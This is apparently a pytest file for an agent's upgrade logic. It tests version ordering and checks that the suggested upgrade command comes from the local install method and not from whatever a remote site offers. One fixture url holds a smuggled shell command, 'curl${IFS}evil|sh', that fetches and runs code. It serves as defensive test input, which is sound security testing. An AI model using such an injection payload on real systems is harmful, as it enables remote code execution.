"""Comparing versions, and the command that upgrades the agent."""

import sys
from pathlib import Path

import pytest

from peer_agent import __version__
from peer_agent.protocol import releases
from peer_agent.protocol.messages import PROTOCOL
from peer_agent.site.facts import Offer, difference, is_newer

SITE = "https://a.example"


@pytest.mark.parametrize(
    ("older", "newer"),
    [("0.1.0", "0.1.1"), ("0.9.1", "0.10.0"), ("0.1", "0.1.1"), ("0.9.9+local", "1.0"), ("0.2.0rc1", "0.2.0")],
)
def test_which_of_two_versions_is_newer(older: str, newer: str) -> None:
    assert is_newer(newer, older)
    assert not is_newer(older, newer)
    assert not is_newer(newer, newer)


def test_what_is_no_version_is_not_newer() -> None:
    assert not is_newer("<newest>", "0.1.0")


def test_a_site_that_is_older_is_nothing_to_speak_of() -> None:
    assert difference(Offer("0.0.1", PROTOCOL), SITE) is None
    assert difference(Offer(__version__, PROTOCOL), SITE) is None


def test_the_line_is_for_the_tool_that_installed_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    offer = Offer(
        "9.0.0",
        PROTOCOL,
        url="https://x;curl${IFS}evil|sh/a.whl",
        upgrade_pip="pip install it",
        upgrade_uv="uv tool install --reinstall it",
    )
    monkeypatch.setattr(sys, "prefix", str(tmp_path))
    assert offer.line(SITE) == f"{sys.executable} -m pip install it"
    (tmp_path / "uv-receipt.toml").touch()
    assert offer.line(SITE) == "uv tool install --reinstall it"
    monkeypatch.setattr(releases, "KEYS", tmp_path / "keys.txt")
    (tmp_path / "keys.txt").write_text("ab" * 32)
    assert offer.line(SITE) == f"manyhands upgrade {SITE}", "whatever the site says"
